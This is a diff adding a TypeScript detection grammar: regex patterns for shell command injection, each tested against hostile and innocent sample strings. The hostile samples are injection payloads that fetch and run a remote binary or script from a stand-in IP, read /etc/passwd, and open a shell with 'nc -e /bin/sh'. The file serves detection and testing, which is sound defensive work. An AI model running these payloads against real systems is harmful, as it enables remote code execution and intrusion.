@@ -1,0 +1,63 @@
+// Grammar of texts written to run shell commands.
+// Each entry keeps the hostile and innocent texts that it is tested with.
+import type { GrammarEntry } from './grammar-entry.ts';
+
+/** Tried on the first 4,096 characters of a decoded value. */
+export const COMMAND_GRAMMAR: readonly GrammarEntry[] = [
+  // a shell separator, then a command with its usual argument
+  {
+    id: 'cmd-inject',
+    family: 'rce',
+    cls: 'break',
+    re: /^[^\s;|&`$]{0,60}(?:;|\|\|?|&&?|`|\$\(|%0a|\n)\s*\+?(?:\/(?:usr\/)?s?bin\/)?(?:cat\s*(?:\/|\$IFS)|(?:id|whoami|uname|hostname|pwd|ifconfig|netstat|env|printenv)\b\s*(?:-\w+\s*)?(?:[;|&`)]|$)|(?:wget|curl|fetch|lynx)\s+(?:-\S+\s+)*['"]?(?:https?:|ftp:|\d+\.\d+\.\d+|\w+\.\w+\/)|nc\s+-|ping\s+(?:-[cnw]\s*\d|\d+\.\d+)|chmod\s+[+0-7a-z]|rm\s+-\w*[rf]|(?:ba|z|k|da)?sh\s+-[ic]\b|(?:python\d?|perl|ruby|php)\s+-[cer]\b|powershell\b|cmd(?:\.exe)?\s*\/c|ls\s+(?:-\w|\/)|sleep\s+\d|nslookup\s+\S|certutil\b|base64\s+-d|ps\s+-?aux|tftp\s|busybox\b|cd\s*\+?\/tmp|sh\s*\+?\/tmp)/i,
+    hostile: [
+      '127.0.0.1; wget http://198.51.100.9/bot -O /tmp/b; chmod +x /tmp/b; /tmp/b',
+      '; cat /etc/passwd',
+      ';id',
+      '|id',
+      '`id`',
+      '127.0.0.1$(curl http://198.51.100.9/x.sh|sh)',
+      '& ping -c 1 198.51.100.9 &',
+    ],
+    innocent: [
+      'ping pong; ball',
+      'cat food',
+      'wget tutorial',
+      'size 42; black',
+      'salt & pepper',
+      'tea | coffee',
+      'R&D id card',
+    ],
+  },
+  // a shell command as the whole value
+  {
+    id: 'cmd-whole',
+    family: 'rce',
+    cls: 'break',
+    re: /^\s*(?:cat\s+\/\S+|uname\s+-a|ls\s+-\w+(?:\s+\/\S*)?|whoami|net\s+user|type\s+c:\S+|ifconfig|ipconfig|(?:wget|curl)\s+(?:-\S+\s+)*(?:https?:\/\/|\d+\.\d+)\S+)\s*$/i,
+    hostile: ['cat /etc/passwd', 'uname -a', 'ls -la', 'whoami'],
+    innocent: ['cat food', 'ls', 'id', 'wget tutorial'],
+  },
+  // a text with a command glued to its end
+  {
+    id: 'cmd-tail',
+    family: 'rce',
+    cls: 'break',
+    re: /\S(?:[;|&`\n\r]{1,2}|\$\()(?:\/(?:usr\/)?s?bin\/)?(?:cat\s*(?:\/|\$IFS)|(?:id|whoami|uname|hostname|pwd|ifconfig|netstat|env|printenv)\b\s*(?:-\w+\s*)?(?:[;|&`)]|$)|(?:wget|curl|fetch|lynx)\s+(?:-\S+\s+)*['"]?(?:https?:|ftp:|\d+\.\d+\.\d+|\w+\.\w+\/)|nc\s+-|ping\s+(?:-[cnw]\s*\d|\d+\.\d+)|chmod\s+[+0-7a-z]|rm\s+-\w*[rf]|(?:ba|z|k|da)?sh\s+-[ic]\b|(?:python\d?|perl|ruby|php)\s+-[cer]\b|powershell\b|cmd(?:\.exe)?\s*\/c|ls\s+(?:-\w|\/)|sleep\s+\d|nslookup\s+\S|certutil\b|base64\s+-d|ps\s+-?aux|tftp\s|busybox\b|cd\s*\+?\/tmp|sh\s*\+?\/tmp)[^a-z]*$/i,
+    hostile: ['Hi there!;env;', 'Hi there!\nenv;', 'hello|id', 'please call me&ping -c 3 198.51.100.9&'],
+    innocent: [
+      '[code]tail -f /var/log/messages | grep error; ps aux[/code]',
+      'try: curl -s http://example.com/install.sh | bash',
+      'R&D id card',
+    ],
+  },
+  // a command after a separator somewhere in a text
+  {
+    id: 'cmd-text',
+    family: 'rce',
+    cls: 'mention',
+    re: /(?:[;|&`\n]|\$\()\s*(?:\/(?:usr\/)?s?bin\/)?(?:cat\s*(?:\/|\$IFS)|(?:id|whoami|uname|hostname|pwd|ifconfig|netstat|env|printenv)\b\s*(?:-\w+\s*)?(?:[;|&`)]|$)|(?:wget|curl|fetch|lynx)\s+(?:-\S+\s+)*['"]?(?:https?:|ftp:|\d+\.\d+\.\d+|\w+\.\w+\/)|nc\s+-|ping\s+(?:-[cnw]\s*\d|\d+\.\d+)|chmod\s+[+0-7a-z]|rm\s+-\w*[rf]|(?:ba|z|k|da)?sh\s+-[ic]\b|(?:python\d?|perl|ruby|php)\s+-[cer]\b|powershell\b|cmd(?:\.exe)?\s*\/c|ls\s+(?:-\w|\/)|sleep\s+\d|nslookup\s+\S|certutil\b|base64\s+-d|ps\s+-?aux|tftp\s|busybox\b|cd\s*\+?\/tmp|sh\s*\+?\/tmp)|\|\s*(?:ba)?sh\b\s*$/i,
+    hostile: ['x y; wget http://198.51.100.9/a', 'a b | nc -e /bin/sh'],
+    innocent: ['Run it and paste; thanks', 'this; that'],
+  },
+];
